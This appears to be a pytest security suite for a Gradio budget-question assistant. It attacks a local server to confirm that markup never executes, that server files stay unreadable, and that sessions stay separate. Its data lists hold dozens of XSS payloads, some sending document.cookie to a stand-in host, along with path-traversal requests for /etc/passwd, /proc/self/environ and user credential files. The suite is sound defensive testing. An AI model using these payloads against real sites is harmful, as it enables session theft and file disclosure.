"""The served page under attack: nothing that is written in documents, file names or questions comes to life.

One real server over a real index is asked by HTTP as an attacker would, and looked at in a real browser.
"""

from __future__ import annotations

import http.client
import json
import re
import urllib.parse
from typing import TYPE_CHECKING, Any, Final

import pytest

from assistant.access import users as users_module
from assistant.access.door import SESSION_COOKIE
from assistant.access.users import Users
from assistant.service import Assistant
from assistant.settings import Settings
from assistant.ui.app import build_app, serve
from benchmarks.browsers import Browser
from index.build import build
from tests.page_driver import opened, put
from tests.waiting import waited

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

PASSWORD = "Chenghu-2025-budget"  # noqa: S105 - of an invented user
LIVE: Final = "fetch('http://elsewhere.invalid/'+document.cookie);window.hit=1;alert(1)"
XSS: Final = (
    f"<script>{LIVE}</script>",
    f"<ScRiPt >{LIVE}</sCrIpT>",
    f"</td></table><script>{LIVE}</script>",
    f"<img src=x onerror={LIVE}>",
    f'<img src=x onerror="{LIVE}">',
    f"<IMG SRC=`x` ONERROR={LIVE}>",
    f"<svg onload={LIVE}>",
    f"<svg/onload={LIVE}//",
    f"<svg><script>{LIVE}</script></svg>",
    f"<svg><animate onbegin={LIVE} attributeName=x dur=1s>",
    f"<body onload={LIVE}>",
    f"<iframe srcdoc='<script>parent.hit=1</script>{LIVE}'></iframe>",
    f"<iframe src=javascript:{LIVE}></iframe>",
    f"<a href=javascript:{LIVE} autofocus onfocus={LIVE}>链接</a>",
    f"<details open ontoggle={LIVE}>展开</details>",
    f"<input autofocus onfocus={LIVE}>",
    f"<video><source onerror={LIVE}></video>",
    f"<audio src=x onerror={LIVE}>",
    f"<marquee onstart={LIVE}>走</marquee>",
    f"<object data=javascript:{LIVE}></object>",
    f"<embed src=javascript:{LIVE}>",
    f"<form action=javascript:{LIVE}><button autofocus>按</button></form>",
    f"<math><mi xlink:href=javascript:{LIVE}>x</mi></math>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.invalid/'>",
    "<base href=http://elsewhere.invalid/>",
    "<link rel=stylesheet href=http://elsewhere.invalid/x.css>",
    "<style>@import 'http://elsewhere.invalid/x.css';*{background:url(http://elsewhere.invalid/x)}</style>",
    "<div style='background:url(http://elsewhere.invalid/x)'>底</div>",
    f"<template><script>{LIVE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={LIVE}>'></noscript>",
    f'"><img src=x onerror={LIVE}>',
    f"' onmouseover='{LIVE}' x='",
    f"--><script>{LIVE}</script><!--",
    f"]]><script>{LIVE}</script>",
    f"&lt;img src=x onerror={LIVE}&gt;",
    f"&#60;script&#62;{LIVE}&#60;/script&#62;",
    f"[点我](javascript:{LIVE})",
    "![图](http://elsewhere.invalid/x.png)",
    "[1]: http://elsewhere.invalid/ '题'\n[看][1] <http://elsewhere.invalid/>",
    f"$\\href{{javascript:{LIVE}}}{{x}}$ ```html\n<script>{LIVE}</script>\n```",
)
TRAVERSALS: Final = (
    "/gradio_api/file=/etc/passwd",
    "/gradio_api/file=../../../../etc/passwd",
    "/gradio_api/file=..%2f..%2f..%2fetc%2fpasswd",
    "/gradio_api/file=%2e%2e/%2e%2e/etc/passwd",
    "/gradio_api/file=....//....//etc/passwd",
    "/gradio_api/file=..\\..\\..\\etc\\passwd",
    "/gradio_api/file=..%5c..%5cetc%5cpasswd",
    "/gradio_api/file=%252e%252e%252fetc%252fpasswd",
    "/gradio_api/file=/proc/self/environ",
    "/gradio_api/file=/proc/self/cwd/pyproject.toml",
    "/gradio_api/file=pyproject.toml",
    "/gradio_api/file=./app.py",
    "/gradio_api/file={home}/users.json",
    "/gradio_api/file={home}/yusuan.sqlite3",
    "/gradio_api/file={home}/conversations.sqlite3",
    "/gradio_api/file={home}/uploads/../users.json",
    "/gradio_api/file={cache}/../../../../../../{home}/users.json",
    "/gradio_api/file={cache}/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/{home}/users.json",
    "/gradio_api/file=file:///etc/passwd",
    "/gradio_api/file=http://127.0.0.1:{port}/config",
    "/gradio_api/file=//etc/passwd",
    "/gradio_api/file=/etc/passwd%00.txt",
    "/gradio_api/file/%2fetc%2fpasswd",
    "/gradio_api/file//etc/passwd",
    "/file=/etc/passwd",
    "/file//etc/passwd",
    "/static/../../../../etc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/gradio/routes.py",
    "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/svelte/../../../../etc/passwd",
    "/custom_component/x/client/component/..%2f..%2f..%2fetc%2fpasswd",
    "/gradio_api/proxy=http://127.0.0.1:{port}/config",
    "/gradio_api/stream/x/y/1/..%2f..%2fetc%2fpasswd.ts",
    "/leaf/..%2f..%2fetc%2fpasswd/1.webp",
    "/leaf/1/..%2f..%2f..%2fusers.json",
)
SECRETS: Final = (
    b"root:x:0:0",
    b"SQLite format 3",
    b'"salt"',
    b"[project]",
    b"PATH=",
    b"launch(settings",
    b"APIRouter",
)
DOCUMENT: Final = """2024年度
澄湖市图书馆
部门预算

一般公共预算支出预算表

部门：澄湖市图书馆

单位：万元

科目编码\t科目名称\t合计
合计\t\t{total}.00
{rows}

第二部分 情况说明

{sentences}
"""


def document(payloads: tuple[str, ...]) -> str:
    """A budget in which each payload is the name of an item, and stands in a sentence with a figure."""
    flat = [payload.replace("\n", " ").replace("\t", " ") for payload in payloads]
    rows = "\n".join(f"{2070100 + number}\t{payload}\t1.00" for number, payload in enumerate(flat, 1))
    sentences = "\n\n".join(
        f"{number}．{payload}项目支出 1.00 万元，用于{payload}。" for number, payload in enumerate(flat, 1)
    )
    return DOCUMENT.format(total=len(flat), rows=rows, sentences=sentences)


Fetched = tuple[int, bytes, dict[str, str]]


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An index over a hostile document, with users and files that nobody may read."""
    folder = tmp_path_factory.mktemp("attacked")
    file = folder / "预算<img src=x onerror=window.hit=1>.txt"
    file.write_text(document(XSS), encoding="utf-8")
    report = build([file], Settings(home=folder / "home", embed=False))
    assert report.count("loaded") == 1, report
    (folder / "home" / "conversations.sqlite3").touch()
    return folder / "home"


@pytest.fixture(scope="module")
def page(home: Path) -> Iterator[tuple[str, Any]]:
    """The page over it, open to everybody at this machine."""
    settings = Settings(home=home, embed=False, questions_per_minute=0)
    blocks = build_app(settings, Assistant(settings))
    yield serve(blocks, settings, "127.0.0.1", None, block=False).rstrip("/"), blocks
    blocks.close()


@pytest.fixture(scope="module")
def closed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A page that users have to log in to."""
    home = tmp_path_factory.mktemp("closed")
    cost, users_module.User.__init__.__defaults__ = users_module.User.__init__.__defaults__, (1 << 4, 8, 1)
    Users(home).add("anna", PASSWORD)
    users_module.User.__init__.__defaults__ = cost
    settings = Settings(home=home, embed=False)
    blocks = build_app(settings, Assistant(settings))
    yield serve(blocks, settings, "127.0.0.1", None, block=False).rstrip("/")
    blocks.close()


def fetch(url: str, path: str, method: str = "GET", body: bytes = b"", **headers: str) -> Fetched:
    """Ask for a path exactly as it is written, with nothing put in order by a client."""
    connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=30)
    connection.putrequest(method, path, skip_accept_encoding=True)
    given = {"content-length": str(len(body)), **{name.replace("_", "-"): value for name, value in headers.items()}}
    for name, value in given.items():
        connection.putheader(name, value)
    connection.endheaders(body)
    response = connection.getresponse()
    found = response.status, response.read(1 << 20), {name.lower(): value for name, value in response.getheaders()}
    connection.close()
    return found


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_file_of_the_server_is_read(page: tuple[str, Any], home: Path, path: str) -> None:
    url, blocks = page
    wanted = path.format(home=home, cache=blocks.GRADIO_CACHE, port=url.rpartition(":")[2])
    wanted = urllib.parse.quote(wanted, safe="/%=:.\\?&")
    status, content, _ = fetch(url, wanted)
    assert status >= 400
    assert not any(secret in content for secret in SECRETS)


@pytest.mark.parametrize("path", ["/etc/passwd", "{home}/users.json", "http://127.0.0.1:{port}/config", "../x"])
def test_an_upload_is_never_a_file_of_the_server(page: tuple[str, Any], home: Path, path: str) -> None:
    url, _ = page
    config = json.loads(fetch(url, "/config")[1])
    files = next(one["id"] for one in config["components"] if one["props"].get("elem_id") == "upload")
    event = next(one for one in config["dependencies"] if [files, "upload"] in map(list, one["targets"]))
    named = path.format(home=home, port=url.rpartition(":")[2])
    sent = [{"path": named, "url": named, "meta": {"_type": "gradio.FileData"}}]
    told = run(url, event["id"], [sent, *[None] * (len(event["inputs"]) - 1)])
    assert '"success":false' in told
    assert not any(secret.decode() in told for secret in SECRETS)
    listed = json.loads(fetch(url, "/config")[1])
    assert named not in json.dumps(listed)


def run(url: str, event: int, data: list[Any], page: str = "attacker", **headers: str) -> str:
    """Run an event through the queue and return what comes of it."""
    body = json.dumps({"data": data, "fn_index": event, "session_hash": page}).encode()
    status, content, _ = fetch(url, "/gradio_api/queue/join", "POST", body, content_type="application/json", **headers)
    if status >= 400:
        return '"success":false' + content.decode()
    return fetch(url, f"/gradio_api/queue/data?session_hash={page}", "GET", b"", **headers)[1].decode()


def test_every_answer_has_headers_that_keep_it_at_home(page: tuple[str, Any]) -> None:
    url, _ = page
    for path in ("/", "/config", "/theme.css", "/gradio_api/info", "/nothing", "/gradio_api/file=/etc/passwd"):
        _, _, headers = fetch(url, path)
        assert headers["x-content-type-options"] == "nosniff"
        policy = headers["content-security-policy"]
        assert "frame-ancestors 'self'" in policy
        assert "connect-src 'self';" in policy
        assert "'unsafe-inline'" not in re.findall(r"script-src [^;]*", policy)[0]
    nonces = {re.findall(r"'nonce-([^']+)'", fetch(url, "/")[2]["content-security-policy"])[0] for _ in range(3)}
    assert len(nonces) == 3


@pytest.mark.parametrize(
    "path",
    ["/monitoring", "/gradio_api/runs", "/gradio_api/deep_link", "/gradio_api/vibe-code", "/gradio_api/dev/reload"],
)
def test_what_the_page_does_not_need_is_not_there(page: tuple[str, Any], path: str) -> None:
    assert fetch(page[0], path)[0] in {404, 405}


def test_other_sites_and_endless_bodies_are_refused(page: tuple[str, Any]) -> None:
    url, _ = page
    join = "/gradio_api/queue/join"
    assert fetch(url, join, "POST", b"{}", content_type="application/json", sec_fetch_site="cross-site")[0] == 403
    assert fetch(url, join, "POST", b" " * (5 << 20), content_type="application/json")[0] == 413


def test_words_in_answers_stay_words(page: tuple[str, Any]) -> None:
    url, _ = page

    async def ask_all() -> list[str]:
        browser = Browser(url, 1)
        await browser.open()
        try:
            questions = [question for payload in XSS for question in (payload, f"{payload[:60]}支出多少？")]
            return [(await browser.ask(question)).shown for question in questions]
        finally:
            browser.close()

    for shown in waited(ask_all()):
        assert not re.search(r"<(?!/?(?:a class=\"cite\"|/a|span class=\"badge|/span))", shown), shown


def test_nothing_comes_to_life_in_a_browser(browser: Any, page: tuple[str, Any], tmp_path: Path) -> None:
    url, _ = page
    told: list[Any] = []

    def dialogs(dialog: Any) -> None:
        told.append(dialog)
        dialog.dismiss()

    hostile = tmp_path / "上传<svg onload=window.hit=1>.txt"
    hostile.write_text(document(XSS[::-1]).replace("2024", "2023"), encoding="utf-8")
    with opened(browser, url) as shown:
        shown.on("dialog", dialogs)
        together = [" ".join(XSS[first : first + 4]) for first in range(0, len(XSS), 4)]
        for question in (*together, "澄湖市图书馆2024年有哪些支出？", "2070101多少", "2024年支出明细"):
            put(shown, question)
            shown.wait_for_timeout(2500)  # an answer takes a moment, what would come to life another
        assert shown.locator("#chat .bot").count() > len(together) // 2
        shown.set_input_files("#upload input[type=file]", str(hostile))
        shown.get_by_role("tab", name="文件").click()
        shown.wait_for_selector("#uploads li.loaded, #uploads li.refused", timeout=60_000)
        shown.wait_for_timeout(500)
        assert shown.evaluate("window.hit") is None
        live = ":is(#chat, #evidence, #documents, #uploads, #examples)"
        dangerous = f"{live} :is(script, iframe, object, embed, base, meta, link, style, form, svg, template, img)"
        found = shown.locator(dangerous).evaluate_all("all => all.map((one) => one.outerHTML)")
        assert not [one for one in found if "elsewhere" in one or "hit=1" in one or "javascript:" in one]
        assert (
            shown.evaluate(f"""[...document.querySelectorAll('{live} *')].flatMap(
            (one) => [...one.attributes].filter((own) => own.name.startsWith('on') || /javascript:/i.test(own.value))
        ).length""")
            == 0
        )
    assert told == []


def test_an_open_page_belongs_to_whoever_opened_it(page: tuple[str, Any]) -> None:
    url, _ = page
    config = json.loads(fetch(url, "/config")[1])
    box = next(one["id"] for one in config["components"] if one["props"].get("elem_id") == "question")
    event = next(one for one in config["dependencies"] if [box, "submit"] in map(list, one["targets"]))
    data = ["公务接待费多少", *[None] * (len(event["inputs"]) - 1)]
    mine, other = (f"yusuan_visitor={letter * 32}" for letter in "ab")
    assert '"success":true' in run(url, event["id"], data, "opened-by-a", cookie=mine)
    assert '"success":true' in run(url, event["id"], data, "opened-by-a", cookie=mine)
    assert '"success":true' not in run(url, event["id"], data, "opened-by-a", cookie=other)
    assert fetch(url, "/gradio_api/queue/data?session_hash=opened-by-a", cookie=other)[0] == 403
    assert fetch(url, "/gradio_api/heartbeat/opened-by-a", cookie=other)[0] == 403


def test_without_logging_in_there_is_the_login_page_and_nothing_else(closed: str) -> None:
    status, content, _ = fetch(closed, "/", accept="text/html")
    assert status == 200
    assert b"<form" in content
    assert b"<script" not in content
    for path in (
        *("/config", "/gradio_api/info", "/gradio_api/queue/data?session_hash=x", "/gradio_api/heartbeat/x"),
        *("/gradio_api/openapi.json", "/leaf/1/1", "/theme.css", "/gradio_api/file=/etc/passwd", "/gradio_api/mcp/"),
    ):
        assert fetch(closed, path)[0] in {401, 404}, path
    for path in (
        "/gradio_api/queue/join",
        "/gradio_api/upload",
        "/gradio_api/run/ask",
        "/gradio_api/call/ask",
        "/run/x",
    ):
        assert fetch(closed, path, "POST", b"{}", content_type="application/json")[0] == 401, path


def test_logging_in_and_out(closed: str) -> None:
    form = {"content_type": "application/x-www-form-urlencoded"}

    def post(password: str, **headers: str) -> Fetched:
        body = urllib.parse.urlencode({"username": "anna", "password": password}).encode()
        return fetch(closed, "/login", "POST", body, **form, **headers)

    wrong = post("<script>alert(1)</script>", accept="text/html")
    assert wrong[0] == 401
    assert "用户名或密码不对" in wrong[1].decode()
    assert "set-cookie" not in wrong[2]
    status, _, headers = post(PASSWORD, accept="text/html")
    assert status == 303
    cookie = headers["set-cookie"]
    assert all(part in cookie for part in ("HttpOnly", "SameSite=lax"))
    session = cookie.partition(";")[0]
    assert session.startswith(SESSION_COOKIE)
    assert b"gradio_config" in fetch(closed, "/", cookie=session)[1]
    assert json.loads(fetch(closed, "/gradio_api/user", cookie=session)[1]) == "anna"
    assert json.loads(post(PASSWORD)[1]) == {"success": True}  # as Gradio's client logs in
    fetch(closed, "/logout", cookie=session)
    assert fetch(closed, "/config", cookie=session)[0] == 401


def test_a_user_sees_the_way_out_and_takes_it(browser: Any, closed: str, tmp_path: Path) -> None:
    context = browser.new_context(locale="zh-CN")
    page = context.new_page()
    page.goto(closed)
    page.fill("input[name=username]", "anna")
    page.fill("input[name=password]", PASSWORD)
    page.press("input[name=password]", "Enter")
    assert page.inner_text("#account a") == "退出（anna）"
    page.screenshot(path=tmp_path / "logged-in.png")
    page.click("#account a")
    page.wait_for_selector("input[name=password]")
    assert "已退出登录" in page.content()
    context.close()


def test_what_one_visitor_uploads_is_not_the_others(browser: Any, page: tuple[str, Any], tmp_path: Path) -> None:
    url, _ = page
    file = tmp_path / "只给自己看.txt"
    rows = DOCUMENT.format(total=7, rows="2070104\t博物馆\t7.00", sentences="公务接待费支出 6.66 万元。")
    file.write_text(rows.replace("澄湖市图书馆", "澄湖市博物馆"), encoding="utf-8")
    with opened(browser, url) as mine:
        mine.get_by_role("tab", name="文件").click()
        mine.uncheck("#share input")
        mine.set_input_files("#upload input[type=file]", str(file))
        mine.wait_for_selector("#uploads li.loaded", timeout=60_000)
        mine.wait_for_selector("#documents >> text=只给自己看")
        put(mine, "博物馆2070104科目多少？")
        mine.wait_for_selector("#chat >> text=7.00")
    with opened(browser, url) as other:
        assert "只给自己看" not in other.inner_text("#documents")
        put(other, "博物馆2070104科目多少？")
        other.wait_for_selector("#chat .bot")
        other.wait_for_timeout(1500)
        assert "7.00" not in other.inner_text("#chat")
